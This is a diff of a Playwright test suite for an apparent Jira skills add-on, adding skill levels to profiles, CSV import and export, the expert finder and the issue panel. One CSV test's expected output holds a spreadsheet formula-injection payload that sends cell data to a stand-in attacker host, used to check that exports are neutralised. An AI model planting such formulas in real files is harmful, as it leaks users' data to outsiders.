@@ -15,7 +15,8 @@ from playwright.sync_api import Browser, Page, expect
 from addon.skills.names import name_key
 
 from .conftest import JiraActions, Tenant
-from .pages_support import JiraFrame, StandInServer, close_all, give, signed_page_url
+from .pages_support import (JiraFrame, StandInServer, add_needed_skill, close_all, give, levels_of, rate,
+                            search_skills, signed_page_url)
 
 ADMIN = "acc-admin"
 ALICE = "acc-alice"
@@ -185,6 +186,96 @@ def test_admin_edits_someone_elses_skills(ui, jira, tenant):
     assert skills_of(jira, tenant, BOB) == ["Helm"]
 
 
+def test_my_skills_show_their_levels_and_the_keyboard_sets_them(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["Python", "SQL"])
+    rate(jira, tenant, ALICE, {"Python": 3})
+    me = ui(ALICE)
+    page = me.open("/pages/user")
+    python, sql = page.get_by_label("Level of Python"), page.get_by_label("Level of SQL")
+    expect(python).to_have_value("3")
+    expect(sql).to_have_value("")
+    assert sql.locator("option").all_inner_texts() == ["Not rated", "Beginner", "Competent", "Proficient", "Expert"]
+    expect(python.locator("option:checked")).to_have_text("Proficient")
+
+    # The keyboard alone: focus the picker, arrow to a level; each choice is saved, the last one stays.
+    sql.focus()
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("ArrowDown")
+    expect(page.locator("#status")).to_have_text("SQL: Competent.")
+    expect(sql).to_be_focused()
+    wait_until(page, lambda: levels_of(jira, tenant, ALICE) == [("Python", 3), ("SQL", 2)])
+
+    # "Not rated" is a choice like any level.
+    python.select_option(label="Not rated")
+    expect(page.locator("#status")).to_have_text("Python: Not rated.")
+    assert levels_of(jira, tenant, ALICE) == [("Python", None), ("SQL", 2)]
+
+    # Adding a skill can set its level; the field and the picker are ready for the next one.
+    page.get_by_label("Add a skill").fill("Rust")
+    page.get_by_label("Level", exact=True).select_option(label="Expert")
+    page.get_by_label("Add a skill").press("Enter")
+    expect(page.locator("#status")).to_have_text("Added Rust (Expert).")
+    expect(page.get_by_label("Level of Rust")).to_have_value("4")
+    expect(page.get_by_label("Level", exact=True)).to_have_value("")
+    # A skill already held takes the level chosen.
+    page.get_by_label("Add a skill").fill("python")
+    page.get_by_label("Level", exact=True).select_option(label="Beginner")
+    page.get_by_role("button", name="Add", exact=True).click()
+    expect(page.locator("#status")).to_have_text("Python is now Beginner.")
+    expect(python).to_have_value("1")
+    assert levels_of(jira, tenant, ALICE) == [("Python", 1), ("SQL", 2), ("Rust", 4)]
+    me.screenshot("user-levels")
+
+
+def test_a_skill_added_before_the_list_arrives_is_not_lost_when_it_does(ui, jira, tenant):
+    """The page's first read answered by the server before the add, but delivered after it: the add
+    waits for the list, so the older list cannot draw over it."""
+    give(jira, tenant, ALICE, ["Go"])
+    me = ui(ALICE)
+    held = []
+
+    def hold_first_read(route):
+        if route.request.method == "GET" and not held:
+            held.append((route, route.fetch()))  # the server answered: Go alone
+        else:
+            route.continue_()
+
+    me.page.route("**/api/user-skill-levels?*", hold_first_read)
+    page = me.open("/pages/user")
+    wait_until(page, lambda: held)
+    page.get_by_label("Add a skill").fill("Helm")
+    page.get_by_label("Add a skill").press("Enter")
+    page.wait_for_timeout(300)
+    route, answer = held[0]
+    route.fulfill(response=answer)
+    expect(page.locator("#skill-list li .name")).to_have_text(["Go", "Helm"])
+    expect(page.locator("#status")).to_have_text("Added Helm.")
+    assert skills_of(jira, tenant, ALICE) == ["Go", "Helm"]
+
+
+def test_someone_elses_levels_are_shown_read_only(ui, jira, tenant):
+    give(jira, tenant, BOB, ["Go", "Terraform", "Helm"])
+    rate(jira, tenant, BOB, {"Go": 4, "Terraform": 1})
+    me = ui(ALICE)
+    me.jira.users[BOB] = "Bob Builder"
+    page = me.open(f"/pages/user?accountId={BOB}")
+    expect(page.locator("#skill-list li")).to_have_count(3)
+    expect(page.locator("#skill-list li").nth(0).locator(".lozenge")).to_have_text("Expert")
+    expect(page.locator("#skill-list li").nth(1).locator(".lozenge")).to_have_text("Beginner")
+    expect(page.locator("#skill-list li").nth(2).locator(".lozenge")).to_have_count(0)  # not rated
+    expect(page.locator("#skill-list li").nth(0).locator(".lozenge")).to_have_class(re.compile("lozenge-expert"))
+    expect(page.locator("#skill-list select")).to_have_count(0)
+    me.screenshot("user-other-levels")
+
+
+def test_an_admin_sets_someone_elses_levels(ui, jira, tenant):
+    give(jira, tenant, BOB, ["Go"])
+    page = ui(ADMIN).open(f"/pages/user?accountId={BOB}")
+    page.get_by_label("Level of Go").select_option(label="Competent")
+    expect(page.locator("#status")).to_have_text("Go: Competent.")
+    assert levels_of(jira, tenant, BOB) == [("Go", 2)]
+
+
 # ---------------------------------------------------------------------------------------------
 # Admin page: API tokens
 
@@ -241,19 +332,20 @@ def all_skills(jira, tenant):
     return jira.request(tenant, "GET", "/api/skills-by-account", sub=ADMIN).json["skillsByAccountId"]
 
 
-def test_csv_export_has_one_row_per_holding(ui, jira, tenant):
+def test_csv_export_has_one_row_per_holding_with_its_level(ui, jira, tenant):
     give(jira, tenant, ALICE, ["Python", 'Data, "big"'])
     give(jira, tenant, BOB, ["Go"])
+    rate(jira, tenant, ALICE, {"Python": 4})
     admin, page = open_admin_tab(ui, "People's skills (CSV)")
     with page.expect_download() as download:
         page.get_by_role("button", name="Download skills.csv").click()
     assert download.value.suggested_filename == "skills.csv"
     with open(download.value.path(), encoding="utf-8", newline="") as fh:
         text = fh.read()
-    assert text == ('accountId,skill\r\n'
-                    f'{ALICE},Python\r\n'
-                    f'{ALICE},"Data, ""big"""\r\n'
-                    f'{BOB},Go\r\n')
+    assert text == ('accountId,skill,level\r\n'
+                    f'{ALICE},Python,Expert\r\n'
+                    f'{ALICE},"Data, ""big""",\r\n'
+                    f'{BOB},Go,\r\n')
 
 
 def test_csv_import_shows_the_changes_before_applying_them(ui, jira, tenant):
@@ -320,6 +412,60 @@ def test_csv_import_cancelled_changes_nothing(ui, jira, tenant):
     assert all_skills(jira, tenant) == {ALICE: ["Python"]}
 
 
+def test_csv_import_with_levels_shows_the_level_changes_before_applying_them(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["Python", "SQL"])
+    rate(jira, tenant, ALICE, {"Python": 1, "SQL": 3})
+    give(jira, tenant, BOB, ["Go"])
+    rate(jira, tenant, BOB, {"Go": 2})
+    csv = ("accountId,skill,level\r\n"
+           f"{ALICE},python,expert\r\n"    # a level by name, any case: Beginner -> Expert
+           f"{ALICE},SQL,3\r\n"            # by number: unchanged
+           f"{ALICE},Rust,2\r\n"           # added at Competent
+           f"{BOB},Go,Competent\r\n"       # nothing changes for Bob
+           "acc-carol,Figma,\r\n")         # added, not rated
+    admin, page = open_admin_tab(ui, "People's skills (CSV)")
+    page.get_by_label("CSV file").set_input_files(
+        files=[{"name": "levels.csv", "mimeType": "text/csv", "buffer": csv.encode()}])
+    page.get_by_role("button", name="Preview changes").click()
+    expect(page.locator("#csv-preview-heading")).to_have_text(
+        "Preview: 2 people change (2 skills added, 0 removed, 1 levels changed); 1 unchanged.")
+    expect(page.locator("#csv-preview-table thead th")).to_have_text(["Person", "Added", "Removed", "Level changes"])
+    rows = page.locator("#csv-preview-table tbody tr")
+    table = [[cell.inner_text() for cell in row.locator("td").all()[1:]] for row in rows.all()]
+    assert table == [["Rust (Competent)", "", "Python: Beginner → Expert"], ["Figma", "", ""]]
+    admin.screenshot("admin-csv-levels-preview")
+    assert levels_of(jira, tenant, ALICE) == [("Python", 1), ("SQL", 3)]  # nothing saved yet
+    page.get_by_role("button", name="Apply changes").click()
+    expect(page.locator("#csv-applied")).to_have_text(
+        "Saved. 2 people updated: 2 skills added, 0 removed, 1 levels changed.")
+    assert levels_of(jira, tenant, ALICE) == [("Python", 4), ("SQL", 3), ("Rust", 2)]
+    assert levels_of(jira, tenant, "acc-carol") == [("Figma", None)]
+    assert levels_of(jira, tenant, BOB) == [("Go", 2)]
+
+
+def test_csv_import_without_a_level_column_keeps_levels_and_a_bad_level_changes_nothing(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["Python", "SQL"])
+    rate(jira, tenant, ALICE, {"Python": 4})
+    admin, page = open_admin_tab(ui, "People's skills (CSV)")
+    page.get_by_label("CSV file").set_input_files(files=[{
+        "name": "bad.csv", "mimeType": "text/csv",
+        "buffer": f"accountId,skill,level\n{ALICE},Python,Guru\n{ALICE},Go,9\n{BOB},Go,1\n{BOB},go,2\n".encode()}])
+    page.get_by_role("button", name="Preview changes").click()
+    alert = page.locator("#csv-result [role=alert]")
+    expect(alert).to_contain_text("Nothing was changed: the file has 3 problem(s).")
+    expect(alert).to_contain_text("Row 2: “Guru” is not a level of this site (1 to 4, or Beginner, Competent, Proficient, Expert).")
+    expect(alert).to_contain_text("Row 3: “9” is not a level")
+    expect(alert).to_contain_text(f"Row 5: go is listed for {BOB} twice, with different levels.")
+    page.get_by_label("CSV file").set_input_files(files=[{
+        "name": "plain.csv", "mimeType": "text/csv", "buffer": f"accountId,skill\n{ALICE},Python\n{ALICE},Go\n".encode()}])
+    page.get_by_role("button", name="Preview changes").click()
+    expect(page.locator("#csv-preview-heading")).to_have_text(
+        "Preview: 1 person changes (1 skills added, 1 removed); 0 unchanged.")
+    page.get_by_role("button", name="Apply changes").click()
+    expect(page.locator("#csv-applied")).to_be_visible()
+    assert levels_of(jira, tenant, ALICE) == [("Python", 4), ("Go", None)]  # Python keeps its level
+
+
 def test_csv_reader_follows_rfc_4180(ui, tenant):
     admin = ui(ADMIN)
     page = admin.open("/pages/admin")
@@ -339,6 +485,31 @@ def test_csv_reader_follows_rfc_4180(ui, tenant):
     by_bytes = page.evaluate("""() => SkillsCsv.batches({a: ['x'.repeat(60)], b: ['y'.repeat(60)]}, 10, 100)
         .map(b => Object.keys(b))""")
     assert by_bytes == [["a"], ["b"]]
+
+
+def test_csv_import_refuses_the_names_the_server_refuses(ui, tenant):
+    """Control and format characters (but the joiners) are refused by the preview, as the server would."""
+    import sys
+    import unicodedata
+
+    page = ui(ADMIN).open("/pages/admin")
+    text = ("accountId,skill\nacc-1,Py\u202ethon\nacc-1,Go\u200b\nacc-1,\ufeffRust\nacc-1,tab\there\n"
+            "acc-1,\U0001f469\u200d\U0001f4bb\nacc-1,\u0645\u06cc\u200c\u062e\n")
+    read = page.evaluate("(text) => SkillsCsv.toSkillsByAccount(text)", text)
+    assert read["skillsByAccountId"] == {"acc-1": ["\U0001f469\u200d\U0001f4bb", "\u0645\u06cc\u200c\u062e"]}
+    assert read["errors"] == [f"Row {n}: the skill contains invisible formatting characters." for n in (2, 3, 4)] + [
+        "Row 5: the skill contains control characters."]
+    # Exactly the server's set, checked on every code point against this Python's Unicode database.
+    refused = page.evaluate("""() => {
+        const out = [];
+        for (let cp = 0; cp <= 0x10ffff; cp++) {
+            if (cp >= 0xd800 && cp <= 0xdfff) continue;
+            if (SkillsNames.hasFormat('a' + String.fromCodePoint(cp) + 'b')) out.push(cp);
+        }
+        return out;
+    }""")
+    assert refused == [cp for cp in range(sys.maxunicode + 1) if unicodedata.category(chr(cp)) == "Cf"
+                       and cp not in (0x200C, 0x200D)]
 
 
 # ---------------------------------------------------------------------------------------------
@@ -426,21 +597,69 @@ def test_finder_filter_and_search_for_people_with_all_skills(ui, experts):
     search = page.get_by_label("Skill", exact=True)
     search.fill("python")
     search.press("Enter")
-    expect(page.locator(".search-summary")).to_have_text("2 people have: Python.")
+    expect(page.locator(".search-summary")).to_have_text("2 people have Python.")
     search.fill("Go")
     search.press("Enter")
-    expect(page.locator(".search-summary")).to_have_text("1 person has all of: Python, Go.")
-    expect(page.get_by_role("list", name="People with Python, Go").locator(".person-name")).to_have_text(["Alice Example"])
+    expect(page.locator(".search-summary")).to_have_text("2 people match; 1 has all of: Python, Go.")
+    ranked = page.get_by_role("list", name="People for Python, Go")
+    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder"])
+    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers 1 of 2, missing Go"])
     search.fill("Figma")
     search.press("Enter")
-    expect(page.locator(".search-summary")).to_have_text("No one has all of: Python, Go, Figma.")
+    expect(page.locator(".search-summary")).to_have_text("3 people match; none has all of: Python, Go, Figma.")
     page.get_by_role("button", name="Remove Python from the search").click()
     page.get_by_role("button", name="Remove Go from the search").click()
-    expect(page.locator(".search-summary")).to_have_text("1 person has: Figma.")
+    expect(page.locator(".search-summary")).to_have_text("1 person has Figma.")
     search.fill("Cobol")
     search.press("Enter")
     expect(page.locator("#search-status")).to_have_text("No one has a skill called “Cobol”.")
     me.screenshot("finder-search")
+
+
+def test_finder_shows_levels_highest_first_and_filters_at_least_a_level(ui, jira, tenant, experts):
+    rate(jira, tenant, BOB, {"Python": 4})
+    rate(jira, tenant, ALICE, {"Python": 2})
+    rate(jira, tenant, "acc-dan", {"Python": 3, "Go": 4})
+    me = ui(ALICE)
+    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-dan": "Dan Dev"})
+    page = me.open("/pages/finder")
+    page.get_by_role("button", name="Engineering").click()
+    page.get_by_role("button", name=re.compile(r"^Python")).click()
+    people = page.get_by_role("list", name="People who know Python")
+    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev", "Alice Example"])
+    expect(people.locator("li")).to_have_text(["Bob BuilderExpert", "Dan DevProficient", "Alice ExampleCompetent"])
+    expect(people.locator(".lozenge-expert")).to_have_count(2)  # Proficient (3) and up count as expert
+
+    # The filter, from the keyboard: every skill shown draws its people again.
+    level = page.get_by_label("Level", exact=True)
+    assert level.locator("option").all_inner_texts() == ["Any level", "At least Beginner", "At least Competent",
+                                                         "At least Proficient", "At least Expert"]
+    level.focus()
+    for _ in range(3):
+        page.keyboard.press("ArrowDown")
+    expect(level).to_have_value("3")
+    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev"])
+    expect(page.locator(".level-summary")).to_have_text("2 people of 3 at Proficient or above.")
+    search = page.get_by_label("Skill", exact=True)
+    search.fill("python")
+    search.press("Enter")
+    expect(page.locator(".search-summary")).to_have_text("2 people have Python at Proficient or above.")
+    search.fill("Go")
+    search.press("Enter")
+    expect(page.locator(".search-summary")).to_have_text("2 people match; 1 has all of: Python, Go at Proficient or above.")
+    # The filter is every searched skill's minimum, shown on its chip, which can still change its own.
+    expect(page.get_by_label("Minimum level of Go")).to_have_value("3")
+    me.screenshot("finder-levels")
+    level.select_option(label="At least Expert")
+    expect(page.locator(".search-summary")).to_have_text("2 people match; none has all of: Python, Go at Expert or above.")
+    expect(people.locator(".person-name")).to_have_text(["Bob Builder"])
+    page.get_by_role("button", name=re.compile(r"^Design")).click()
+    page.get_by_role("button", name=re.compile(r"^Figma")).click()
+    expect(page.locator('[data-skill="Figma"] .experts')).to_have_text("No one holds Figma at Expert or above.")
+    level.select_option(label="Any level")
+    expect(people.locator(".person-name")).to_have_text(["Bob Builder", "Dan Dev", "Alice Example"])
+    expect(page.locator(".search-summary")).to_have_text("3 people match; 2 have all of: Python, Go.")
+    expect(page.get_by_role("list", name="People who know Figma").locator(".person-name")).to_have_text(["acc-carol"])
 
 
 def test_finder_with_ten_thousand_people_and_two_thousand_skills(ui, jira, tenant):
@@ -488,7 +707,8 @@ def test_finder_with_ten_thousand_people_and_two_thousand_skills(ui, jira, tenan
     search.fill("Skill 0010")
     search.press("Enter")
     expected = sum(1 for skills in holdings.values() if "Skill 0010" in skills)
-    expect(page.locator(".search-summary")).to_have_text(f"{expected} people have all of: Skill 0000, Skill 0010.")
+    expect(page.locator(".search-summary")).to_have_text(
+        f"The best 50 matches are shown; {expected} have all of: Skill 0000, Skill 0010.")
 
 
 # ---------------------------------------------------------------------------------------------
@@ -513,6 +733,21 @@ def test_issue_panel_shows_the_assignees_skills_and_who_knows_the_rest(ui, exper
     page.get_by_role("button", name="Open the expert finder").click()
     wait_until(page, lambda: me.jira.navigations)
     assert me.jira.navigations[-1]["context"]["moduleKey"] == "skills-finder"
+
+
+def test_issue_panel_shows_the_assignees_levels(ui, jira, tenant, experts):
+    rate(jira, tenant, ALICE, {"Go": 4, "Python": 1})
+    me = ui(BOB)
+    me.jira.users.update({ALICE: "Alice Example"})
+    me.jira.issues["PRJ-3"] = ALICE
+    page = me.open("/panels/issue?issueKey=PRJ-3")
+    skills = page.locator("#skill-list li")
+    expect(skills).to_have_text(["PythonBeginner", "GoExpert"])
+    expect(skills.nth(1).locator(".lozenge")).to_have_class(re.compile("lozenge-expert"))
+    rate(jira, tenant, ALICE, {"Python": None})
+    page.reload()
+    expect(skills).to_have_text(["Python", "GoExpert"])  # not rated: the name alone
+    me.screenshot("issue-panel-levels")
 
 
 def test_issue_panel_for_an_unassigned_issue(ui, experts):
@@ -581,6 +816,84 @@ def test_admin_shapes_the_skill_tree(ui, jira, tenant):
     expect(page.locator("#status")).to_have_text("Deleted Engineering.")
     assert [n.get("displayName", n["key"]) for n in tree_of(jira, tenant)] == ["Design", "Server side", "Figma", "Go"]
     assert skills_of(jira, tenant, ALICE) == ["Go", "Figma"]  # people keep their skills
+
+
+def test_admin_edits_the_scale_seeing_what_a_smaller_one_does_first(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["Python", "Go"])
+    rate(jira, tenant, ALICE, {"Python": 4, "Go": 3})
+    rate(jira, tenant, BOB, {"Go": 4})
+    rate(jira, tenant, "acc-carol", {"SQL": 1})
+    admin, page = open_admin_tab(ui, "Levels")
+    expect(page.locator("#scale-form")).to_have_attribute("aria-busy", "false")
+    expect(page.locator("#scale-rows tr")).to_have_count(4)
+    expect(page.get_by_label("Name of level 4")).to_have_value("Expert")
+    expect(page.get_by_label("Counts as an expert from")).to_have_value("3")
+
+    page.get_by_label("Name of level 1").fill("Novice")
+    page.get_by_label("What level 3 means").fill("Works on it alone")
+    # Only the top level can go: the others keep their numbers, and so their meaning.
+    expect(page.get_by_role("button", name=re.compile("^Remove level"))).to_have_count(1)
+    page.get_by_role("button", name="Remove level 4").click()
+    effect = page.locator("#scale-effect")
+    expect(effect).to_have_text("Saving 3 levels moves 2 ratings at Expert (level 4) down to Proficient (level 3). "
+                                "Skills that issues need above level 3 will need Proficient.")
+    assert [row["level"] for row in jira.request(tenant, "GET", "/api/levels").json["levels"]] == [1, 2, 3, 4]
+    page.get_by_label("Counts as an expert from").select_option(label="2. Competent")
+    admin.screenshot("admin-levels")
+    page.get_by_role("button", name="Save levels").click()
+    expect(page.locator("#status")).to_have_text("Saved: 3 levels; experts from Competent up.")
+    expect(effect).to_be_hidden()
+    assert jira.request(tenant, "GET", "/api/levels").json == {"levels": [
+        {"level": 1, "name": "Novice", "description": ""}, {"level": 2, "name": "Competent", "description": ""},
+        {"level": 3, "name": "Proficient", "description": "Works on it alone"}], "expertLevel": 2}
+    assert levels_of(jira, tenant, ALICE) == [("Python", 3), ("Go", 3)]
+    assert levels_of(jira, tenant, BOB) == [("Go", 3)]
+
+    # From the keyboard: a new level, named; two of one name are refused before anything is sent.
+    page.get_by_role("button", name="Add a level").focus()
+    page.keyboard.press("Enter")
+    expect(page.get_by_label("Name of level 4")).to_be_focused()
+    page.keyboard.type("competent")
+    expect(effect).to_be_hidden()
+    page.keyboard.press("Enter")
+    expect(page.locator("#status")).to_have_text("Level 4 has the name of level 2; names must differ.")
+    expect(page.get_by_label("Name of level 4")).to_be_focused()
+    page.get_by_label("Name of level 4").fill("Guru")
+    page.keyboard.press("Enter")
+    expect(page.locator("#status")).to_have_text("Saved: 4 levels; experts from Competent up.")
+    assert [row["name"] for row in jira.request(tenant, "GET", "/api/levels").json["levels"]] == [
+        "Novice", "Competent", "Proficient", "Guru"]
+    for _ in range(3):
+        page.get_by_role("button", name="Add a level").click()
+    expect(page.get_by_role("button", name="Add a level")).to_be_disabled()  # 7 at most
+    page.get_by_role("button", name="Undo changes").click()
+    expect(page.locator("#scale-rows tr")).to_have_count(4)
+
+
+def test_admin_previews_then_splits_level_suffixes(ui, jira, tenant):
+    give(jira, tenant, ALICE, ["Engineering - Beginner", "Go"])
+    give(jira, tenant, BOB, ["Engineering - Expert"])
+    admin, page = open_admin_tab(ui, "Levels")
+    page.get_by_role("button", name="Preview the split").click()
+    heading = page.locator("#split-heading")
+    expect(heading).to_have_text("2 skills become levels; 4 holdings change.")
+    expect(heading).to_be_focused()
+    rows = page.locator("#split-table tbody tr")
+    assert [[cell.text_content() for cell in row.locator("td").all()] for row in rows.all()] == [
+        ["Engineering - Beginner", "Engineering", "Beginner", "1"], ["Engineering - Expert", "Engineering", "Expert", "1"]]
+    admin.screenshot("admin-split-preview")
+    page.get_by_role("button", name="Cancel").click()
+    expect(page.locator("#split-table")).to_have_count(0)
+    assert skills_of(jira, tenant, ALICE) == ["Engineering - Beginner", "Go"]
+    page.get_by_role("button", name="Preview the split").click()
+    page.get_by_role("button", name="Apply", exact=True).click()
+    expect(page.locator("#split-applied")).to_have_text("Done: 2 skills became levels; 4 holdings changed.")
+    assert levels_of(jira, tenant, ALICE) == [("Engineering", 1), ("Go", None)]
+    assert levels_of(jira, tenant, BOB) == [("Engineering", 4)]
+    page.get_by_role("button", name="Preview the split").click()
+    expect(page.locator("#split-none")).to_have_text("No skill is named with a level of this scale.")
+    page.get_by_role("tab", name="Skill tree").click()
+    expect(page.locator("#loose-skills li")).to_have_text(["Engineering", "Go"])
 
 
 def test_admin_exports_and_imports_the_tree_as_json(ui, jira, tenant):
@@ -789,7 +1102,7 @@ def test_strasse_and_strasse_with_eszett_are_one_skill_in_the_pages_and_the_api(
     search = finder.get_by_label("Skill", exact=True)
     search.fill("Straße")
     search.press("Enter")
-    expect(finder.locator(".search-summary")).to_have_text("1 person has: STRASSE.")
+    expect(finder.locator(".search-summary")).to_have_text("1 person has STRASSE.")
 
     # The CSV preview's diff agrees: a file listing "straße" for Alice changes nothing.
     admin, admin_page = open_admin_tab(ui, "People's skills (CSV)")
@@ -814,7 +1127,7 @@ def test_csv_export_neutralises_formulas_and_import_restores_them_exactly(ui, ji
         page.get_by_role("button", name="Download skills.csv").click()
     with open(download.value.path(), encoding="utf-8", newline="") as fh:
         exported = fh.read()
-    cells = [row.split(",", 1)[1] for row in exported.split("\r\n")[1:-1]]
+    cells = [row.rsplit(",", 1)[0].split(",", 1)[1] for row in exported.split("\r\n")[1:-1]]  # its level is the last cell
     assert cells == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"', "'+1 555", "'-Ofast", "'@SUM(A1:A9)",
                      "''=already neutral", "'''+two", "'plain apostrophe", "Go", "a=b"]
     # No cell a spreadsheet reads as a formula: none starts with = + - @ once unquoted.
@@ -827,7 +1140,7 @@ def test_csv_export_neutralises_formulas_and_import_restores_them_exactly(ui, ji
         files=[{"name": "skills.csv", "mimeType": "text/csv", "buffer": exported.encode("utf-8")}])
     page.get_by_role("button", name="Preview changes").click()
     expect(page.locator("#csv-preview-heading")).to_have_text(
-        "Preview: 1 person changes (9 skills added, 0 removed); 0 unchanged.")
+        "Preview: 1 person changes (9 skills added, 0 removed, 0 levels changed); 0 unchanged.")
     page.get_by_role("button", name="Apply changes").click()
     expect(page.locator("#csv-applied")).to_be_visible()
     assert skills_of(jira, tenant, ALICE) == FORMULAS
@@ -929,15 +1242,126 @@ def test_finder_of_a_large_tenant_shows_its_first_result_soon(ui: Any, jira: Jir
     expect(everyone.locator(".person-name").first).to_have_text("First Person")
     expect(page.get_by_role("button", name=f"Show 60 more of {FINDER_PEOPLE - 60}")).to_be_visible()
     expect(page.locator('[data-skill="Skill 0000"] .badge').first).to_have_text(str(FINDER_PEOPLE))
-    # A search over two skills fetches the second's people and intersects them.
+    # A search over two skills ranks the people who have both first; more than the 50 shown have both.
     page.get_by_label("Skill", exact=True).fill("skill 0131")
     page.get_by_role("button", name="Add to search").click()
     page.get_by_label("Skill", exact=True).fill("Skill 0000")
     page.get_by_role("button", name="Add to search").click()
-    both = sum(1 for held in holdings.values() if "Skill 0131" in held)
-    expect(page.locator(".search-summary")).to_have_text(f"{both} people have all of: Skill 0131, Skill 0000.")
+    assert sum(1 for held in holdings.values() if "Skill 0131" in held) > 50
+    expect(page.locator(".search-summary")).to_have_text(
+        "The best 50 matches are shown; each has all of: Skill 0131, Skill 0000.")
+    expect(page.get_by_role("list", name="People for Skill 0131, Skill 0000").locator(".why")).to_have_count(50)
 
     print(f"\nfinder with {FINDER_PEOPLE:,} people and {FINDER_SKILLS:,} skills: {json.dumps(figures)}")
     if os.environ.get("FINDER_TIMING_FILE"):
         with open(os.environ["FINDER_TIMING_FILE"], "w") as out:
             json.dump({"people": FINDER_PEOPLE, "skills": FINDER_SKILLS, **figures}, out)
+
+
+# ---------------------------------------------------------------------------------------------
+# The issue panel: the skills the issue needs, and who could take it (issue 22)
+
+ISSUE_ID = "10001"
+PANEL = f"/panels/issue?issueKey=PRJ-1&issueId={ISSUE_ID}"
+
+
+@pytest.fixture
+def skilled(app, jira, tenant, fake_jira):
+    """People with levels, Jira's permissions on issue 10001 (ALICE edits, BOB browses), open issues."""
+    from .issue_support import grant, set_levels
+    from .test_issue_skills import tenant_id
+
+    holdings = {ALICE: ["Python", "Go"], BOB: ["Python", "Go", "Figma"], "acc-carol": ["Python"],
+                "acc-dan": ["Go", "Figma"]}
+    assert jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN,
+                        json={"skillsByAccountId": holdings}).status_code == 200
+    tid = tenant_id(app)
+    set_levels(app, tid, ALICE, {"Python": 4, "Go": 2})
+    set_levels(app, tid, BOB, {"Python": 2, "Go": 3})
+    set_levels(app, tid, "acc-carol", {"Python": 3})
+    set_levels(app, tid, "acc-dan", {"Go": 4, "Figma": 1})
+    site = fake_jira.site_data("tenant-a")
+    grant(site, ALICE, "BROWSE_PROJECTS", int(ISSUE_ID))
+    grant(site, ALICE, "EDIT_ISSUES", int(ISSUE_ID))
+    grant(site, BOB, "BROWSE_PROJECTS", int(ISSUE_ID))
+    site["open_issues"] = {ALICE: 5, BOB: 1, "acc-carol": 0}
+    return site
+
+
+def test_issue_panel_editor_names_the_skills_and_sees_who_could_take_it(ui, jira, tenant, skilled, fake_jira):
+    me = ui(ALICE)
+    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-carol": "Carol Chen", "acc-dan": "Dan Diaz"})
+    me.jira.issues["PRJ-1"] = None
+    me.jira.editable.add(ISSUE_ID)
+    page = me.open(PANEL)
+    expect(page.locator("#needed-empty")).to_have_text("No skills named for this issue yet.")
+    expect(page.locator("#suggestions")).to_have_text("Name the skills this issue needs to see who could take it.")
+
+    add_needed_skill(page, "python", "at least Competent")
+    expect(page.locator("#needed-status")).to_have_text("Added python.")
+    add_needed_skill(page, "Go")
+    expect(page.locator("#needed-list li .name")).to_have_text(["Python", "Go"])  # spelled as stored
+    expect(page.get_by_label("Minimum level of Go")).to_have_value("")  # added at any level
+    ranked = page.get_by_role("list", name="Who could take this issue")
+    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder", "Dan Diaz", "Carol Chen"])
+    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers all 2", "covers 1 of 2, missing Python",
+                                                 "covers 1 of 2, missing Go"])
+    expect(ranked.locator(".levels").first).to_have_text("Python: Expert · Go: Competent")
+    expect(ranked.locator(".open-issues")).to_have_text(["5 open issues", "1 open issue", "no open issues",
+                                                        "no open issues"])
+    assert fake_jira.issue_property("tenant-a", ISSUE_ID) == {"skills": ["Python", "Go"]}
+    me.screenshot("issue-panel-needs")
+
+    # Go at Proficient or above: Alice (Go 2) no longer meets it, and the words say so.
+    page.get_by_label("Minimum level of Go").select_option(label="at least Proficient")
+    expect(page.locator("#needed-status")).to_have_text("Go now needs Proficient or above.")
+    expect(ranked.locator(".person-name").first).to_have_text("Bob Builder")
+    alice = ranked.locator('li[data-account-id="acc-alice"]')
+    expect(alice.locator(".why")).to_have_text("covers 1 of 2, missing Go")
+    expect(alice.locator(".levels")).to_have_text("Python: Expert · Go: Competent (needs Proficient)")
+    response = jira.request(tenant, "GET", f"/api/issue-skills?issueId={ISSUE_ID}", sub=ALICE)
+    assert response.json["skills"] == [{"name": "Python", "minLevel": 2}, {"name": "Go", "minLevel": 3}]
+
+    page.get_by_role("button", name="Remove Python").click()
+    expect(page.locator("#needed-list li .name")).to_have_text(["Go"])
+    # Go at Proficient or above alone: Dan (4), then Bob (3); Alice (2) meets nothing and is left out.
+    expect(ranked.locator(".person-name")).to_have_text(["Dan Diaz", "Bob Builder"])
+    ranked.locator('li[data-account-id="acc-bob"] .person').click()  # a person's skills page, not an assignment
+    wait_until(page, lambda: me.jira.navigations)
+    assert me.jira.navigations[-1]["context"]["customData"] == {"accountId": BOB}
+
+
+def test_issue_panel_is_read_only_for_whoever_may_not_edit_the_issue(ui, jira, tenant, skilled):
+    assert jira.request(tenant, "PUT", f"/api/issue-skills?issueId={ISSUE_ID}", sub=ALICE,
+                        json={"skills": [{"name": "Python", "minLevel": 3}, "Figma"]}).status_code == 200
+    me = ui(BOB)
+    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder"})
+    me.jira.issues["PRJ-1"] = ALICE
+    page = me.open(PANEL)
+    expect(page.locator("#needed-list li .name")).to_have_text(["Python", "Figma"])
+    expect(page.locator("#needed-list .min-level")).to_have_text(["at least Proficient", "any level"])
+    expect(page.locator("#needed-form")).to_be_hidden()
+    expect(page.locator("#needed-list button")).to_have_count(0)
+    expect(page.locator("#needed-list select")).to_have_count(0)
+    ranked = page.get_by_role("list", name="Who could take this issue")
+    # Alice (Python 4), Carol (Python 3), Dan (Figma 1), Bob (Figma unrated: 0; his Python 2 is too low)
+    expect(ranked.locator(".why")).to_have_text(["covers 1 of 2, missing Figma", "covers 1 of 2, missing Figma",
+                                                 "covers 1 of 2, missing Python", "covers 1 of 2, missing Python"])
+    me.screenshot("issue-panel-read-only")
+
+
